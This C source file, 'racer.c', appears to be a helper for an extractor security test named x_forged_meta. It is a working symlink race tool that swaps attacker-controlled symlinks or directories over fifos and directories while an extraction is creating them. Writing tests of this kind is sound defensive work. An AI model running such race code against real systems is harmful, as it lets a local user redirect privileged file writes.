/*
 * racer.c --- the local user of x_forged_meta: swap a symlink in for
 * each fifo extract makes in a directory the user can write
 *
 *   racer DIR PREFIX COUNT TARGET SECONDS [NAME]
 *
 * As soon as it can write in DIR, renames a file of its own over
 * DIR/NAME, when given.  Then waits for DIR/PREFIX000 ..
 * DIR/PREFIX<COUNT-1> (three digits) to appear, in that order, and
 * renames a symlink to TARGET over each as soon as it is a fifo; gives
 * up after SECONDS.  Prints a line for each one it swapped.  With
 * TARGET "-d", it waits for directories instead, and renames over each,
 * as soon as it is made, a directory of its own holding a file "mine".
 *
 * This file may be redistributed under the terms of the GNU General
 * Public License, version 2.
 */

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <fcntl.h>
#include <time.h>
#include <unistd.h>
#include <sys/stat.h>

/* The next thing to rename over a name: a symlink, or a directory */
static int make_decoy(const char *path, const char *target)
{
	char mine[4096];
	int fd;

	if (strcmp(target, "-d"))
		return symlink(target, path);
	if (mkdir(path, 0777) < 0)
		return -1;
	snprintf(mine, sizeof(mine), "%s/mine", path);
	fd = open(mine, O_WRONLY | O_CREAT, 0644);
	return fd < 0 ? -1 : close(fd);
}

int main(int argc, char **argv)
{
	char name[4200], next[4200], tmp[4096];
	struct stat st;
	time_t end;
	int i = 0, count, fd, dirs;

	if (argc != 6 && argc != 7) {
		fprintf(stderr, "usage: racer DIR PREFIX COUNT TARGET "
			"SECONDS [NAME]\n");
		return 2;
	}
	count = atoi(argv[3]);
	dirs = !strcmp(argv[4], "-d");
	end = time(NULL) + atoi(argv[5]);
	snprintf(tmp, sizeof(tmp), "%s/.racer", argv[1]);
	while (make_decoy(tmp, argv[4]) < 0 && time(NULL) < end)
		;
	if (argc == 7) {
		snprintf(next, sizeof(next), "%s/.mine", argv[1]);
		snprintf(name, sizeof(name), "%s/%s", argv[1], argv[6]);
		fd = open(next, O_WRONLY | O_CREAT | O_TRUNC, 0644);
		if (fd >= 0 && write(fd, "mine\n", 5) == 5 &&
		    !close(fd) && rename(next, name) < 0)
			perror(name);
	}
	while (i < count && time(NULL) < end) {
		snprintf(name, sizeof(name), "%s/%s%03d", argv[1], argv[2], i);
		snprintf(next, sizeof(next), "%s/%s%03d", argv[1], argv[2],
			 i + 1);
		if (make_decoy(tmp, argv[4]) < 0 && lstat(tmp, &st) < 0)
			continue;	/* DIR is gone */
		for (;;) {
			if (lstat(name, &st) == 0 && (dirs ?
			    S_ISDIR(st.st_mode) && st.st_uid != getuid() :
			    S_ISFIFO(st.st_mode))) {
				if (rename(tmp, name) == 0) {
					printf("%s\n", name);
					fflush(stdout);
				}
				break;
			}
			/* missed: it is made already, or it failed */
			if (lstat(next, &st) == 0 || time(NULL) >= end)
				break;
		}
		i++;
	}
	if (dirs) {
		snprintf(name, sizeof(name), "%s/mine", tmp);
		unlink(name);
		rmdir(tmp);
	} else {
		unlink(tmp);
	}
	return 0;
}
